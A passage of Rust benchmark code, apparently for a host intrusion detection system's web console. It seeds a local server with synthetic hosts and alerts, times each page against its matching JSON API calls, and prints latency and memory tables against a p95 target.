        inventory: Some(inventory.clone()),
        presence: Some(presence.clone()),
        store: Mutex::new(hids_store::open(&store_cfg).expect("open the store for the API")),
        rules: Arc::new(RuleSet::load(true, &[]).expect("the built-in rules load")),
        registry: metrics.registry(),
        metrics: metrics.clone(),
        started: SystemTime::now(),
    });
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap();
    let listener = runtime
        .block_on(tokio::net::TcpListener::bind("127.0.0.1:0"))
        .unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    runtime.spawn(async move { axum::serve(listener, http::router(api)).await });

    let mut headers = reqwest::header::HeaderMap::new();
    headers.insert(
        reqwest::header::COOKIE,
        format!("{}={token}", auth::COOKIE).parse().unwrap(),
    );
    let client = reqwest::blocking::Client::builder()
        .default_headers(headers)
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap();

    let n = a.hosts;
    let pick = move |i: usize, what: u64| (draw(what, i as u64) % n as u64) as usize;
    // Hosts of the host page: every other one among those with recent activity.
    let host_for_page = move |i: usize| {
        if i.is_multiple_of(2) {
            pick(i, 41) % n.min(RECENT_HOSTS)
        } else {
            pick(i, 42)
        }
    };
    let cves = if wide_cves.is_empty() {
        vec!["CVE-2020-20000".to_owned()]
    } else {
        wide_cves
    };
    let specs: Vec<Spec> = vec![
        Spec {
            name: "/",
            page: Box::new(|_| "/".into()),
            peer: Box::new(|_| {
                vec![
                    "/api/v1/fleet/summary?by=idc".into(),
                    "/api/v1/fleet/summary?by=project".into(),
                    "/api/v1/fleet/summary?by=product".into(),
                    "/api/v1/fleet/summary?by=version".into(),
                    "/api/v1/alerts/summary?by=level&since=24h".into(),
                    format!(
                        "/api/v1/alerts/summary?by=rule_id&rule_id={}&since=24h",
                        GUARD.id()
                    ),
                    "/api/v1/fleet/top?by=cpu&limit=10".into(),
                    "/api/v1/fleet/top?by=memory&limit=10".into(),
                ]
            }),
            peer_name: "fleet/summary x4 + alerts/summary x2 + fleet/top x2",
        },
        Spec {
            name: "/alerts",
            page: Box::new(|_| "/alerts".into()),
            peer: Box::new(|_| vec!["/api/v1/alerts?limit=51".into()]),
            peer_name: "/api/v1/alerts?limit=51",
        },
        Spec {
            name: "/alerts?limit=500",
            page: Box::new(|_| "/alerts?limit=500".into()),
            peer: Box::new(|_| vec!["/api/v1/alerts?limit=501".into()]),
            peer_name: "/api/v1/alerts?limit=501",
        },
        Spec {
            name: "/alerts?min_level=high&idc=X",
            page: Box::new(|i| format!("/alerts?min_level=high&idc=idc-{:02}", i as u64 % IDCS)),
            peer: Box::new(|i| {
                vec![format!(
                    "/api/v1/alerts?min_level=high&idc=idc-{:02}&limit=51",
                    i as u64 % IDCS
                )]
            }),
            peer_name: "/api/v1/alerts?min_level=high&idc=X&limit=51",
        },
        Spec {
            name: "/alerts?min_level=critical&project=P",
            page: Box::new(|i| {
                format!(
                    "/alerts?min_level=critical&project=project-{:02}",
                    i as u64 % PROJECTS
                )
            }),
            peer: Box::new(|i| {
                vec![format!(
                    "/api/v1/alerts?min_level=critical&project=project-{:02}&limit=51",
                    i as u64 % PROJECTS
                )]
            }),
            peer_name: "/api/v1/alerts?min_level=critical&project=P&limit=51",
        },
        Spec {
            name: "/alerts?host_id=H",
            page: Box::new(move |i| format!("/alerts?host_id={}", host_id(pick(i, 43)))),
            peer: Box::new(move |i| {
                vec![format!(
                    "/api/v1/alerts?host_id={}&limit=51",
                    host_id(pick(i, 43))
                )]
            }),
            peer_name: "/api/v1/alerts?host_id=H&limit=51",
        },
        Spec {
            name: "/alerts/ID",
            page: {
                let rules = rules.clone();
                Box::new(move |i| format!("/alerts/{}", alert_id_of(pick(i, 44), now_secs, &rules)))
            },
            peer: {
                let rules = rules.clone();
                Box::new(move |i| {
                    vec![
                        format!(
                            "/api/v1/alerts/{}",
                            alert_id_of(pick(i, 44), now_secs, &rules)
                        ),
                        "/api/v1/suppressions".into(),
                    ]
                })
            },
            peer_name: "/api/v1/alerts/ID + /api/v1/suppressions",
        },
        Spec {
            name: "/hosts/H",
            page: Box::new(move |i| format!("/hosts/{}", host_id(host_for_page(i)))),
            peer: Box::new(move |i| {
                let h = host_for_page(i);
                let mut calls = vec![format!("/api/v1/alerts?host_id={}&limit=50", host_id(h))];
                if h < inventory_hosts {
                    calls.push(format!("/api/v1/inventory/hosts/{}", host_id(h)));
                }
                calls
            }),
            peer_name: "/api/v1/inventory/hosts/H + /api/v1/alerts?host_id=H",
        },
        Spec {
            name: "/vulns",
            page: Box::new(|_| "/vulns".into()),
            peer: Box::new(|_| vec!["/api/v1/vulns/top?limit=50".into()]),
            peer_name: "/api/v1/vulns/top?limit=50",
        },
        Spec {
            name: "/vulns?id=CVE",
            page: {
                let cves = cves.clone();
                Box::new(move |i| format!("/vulns?id={}", cves[i % cves.len()]))
            },
            peer: Box::new(move |i| {
                vec![format!(
                    "/api/v1/vulns/hosts?id={}&limit=50",
                    cves[i % cves.len()]
                )]
            }),
            peer_name: "/api/v1/vulns/hosts?id=CVE&limit=50",
        },
        Spec {
            name: "/history",
            page: Box::new(|_| "/history".into()),
            peer: Box::new(|_| Vec::new()),
            peer_name: "none (the history has no JSON API)",
        },
    ];

    eprintln!("measuring {} pages on {base}", specs.len());
    let mut results = Vec::new();
    for spec in &specs {
        eprintln!("  {}", spec.name);
        results.push(measure(
            &client,
            &base,
            spec,
            a.warmup,
            a.requests,
            a.page_secs,
        ));
    }
    let rss_end = rss_mb();
    eprintln!("timing the parts");
    let parts = {
        let mut store = hids_store::open(&store_cfg).expect("open the store for the parts");
        time_parts(&presence, store.as_mut(), a.parts_runs)
    };
    shutdown.store(true, std::sync::atomic::Ordering::Relaxed);

    println!(
        "# console: {} hosts ({} alerts, {} registered, {} with an inventory from {} images, {} with recent activity); {} requests per page after {} warm-up, one at a time over loopback; p95 target {TARGET_MS:.0} ms",
        a.hosts, a.hosts, a.hosts, indexed_hosts, indexed_images, recent_hosts, a.requests, a.warmup
    );
    match (alerts_took, inventories_took) {
        (Some(al), Some(inv)) => println!(
            "# seeding: alerts {:.1} s ({:.0} per s, Store::record in batches of {ALERT_BATCH}); inventories {:.1} s; presence {:.1} s ({status_bytes} bytes per status)",
            al.as_secs_f64(),
            a.hosts as f64 / al.as_secs_f64(),
            inv.as_secs_f64(),
            presence_took.as_secs_f64()
        ),
        _ => println!(
            "# seeding: store reused from an earlier run; presence {:.1} s",
            presence_took.as_secs_f64()
        ),
    }
    println!(
        "# store {:.0} MB (SQLite, {}); index load {:.1} s",
        db_bytes as f64 / 1e6,
        db.display(),
        index_took.as_secs_f64()
    );
    println!(
        "# RSS (server and client in one process): start {rss_start:.0} MB, presence +{:.0} MB, after seeding the store {rss_seeded:.0} MB, recent {:.0} MB held, index +{:.0} MB, at the end {rss_end:.0} MB",
        rss_presence - rss_start,
        recent_bytes as f64 / 1048576.0,
        rss_index - rss_before_index,
    );
    println!();
    println!("| page | n | p50 ms | p95 ms | max ms | first ms | KB | peer (JSON API, same question) | peer p50 | peer p95 | peer max | peer KB | target p95 < {TARGET_MS:.0} ms |");
    println!("|---|---|---|---|---|---|---|---|---|---|---|---|---|");
    for (spec, m) in specs.iter().zip(&results) {
        let (p50, p95, max) = m.page.summary();
        let peer = if m.peer.0.is_empty() {
            "- | - | - | -".to_owned()
        } else {
            let (q50, q95, qmax) = m.peer.summary();
            format!(
                "{q50:.1} | {q95:.1} | {qmax:.1} | {:.0}",
                m.peer_bytes as f64 / 1024.0
            )
        };
        println!(
            "| `{}` | {} | {p50:.1} | {p95:.1} | {max:.1} | {:.1} | {:.0} | {} | {peer} | {} |",
            spec.name,
            m.page.0.len(),
            m.first_ms,
            m.page_bytes as f64 / 1024.0,
            spec.peer_name,
            if p95 < TARGET_MS { "MET" } else { "**MISSED**" }
        );
    }
    let missed = results
        .iter()
        .filter(|m| m.page.summary().1 >= TARGET_MS)
        .count();
    println!();
    println!(
        "# {} of {} pages meet p95 < {TARGET_MS:.0} ms",
        results.len() - missed,
        results.len()
    );
    println!();
    println!(
        "Where the time goes: the pages' parts called directly, {} times each",
        a.parts_runs
    );
    println!();
    println!("| part | median ms | max ms |");
    println!("|---|---|---|");
    for (name, t) in &parts {
        let (p50, _, max) = t.summary();
        println!("| {name} | {p50:.1} | {max:.1} |");
    }
}
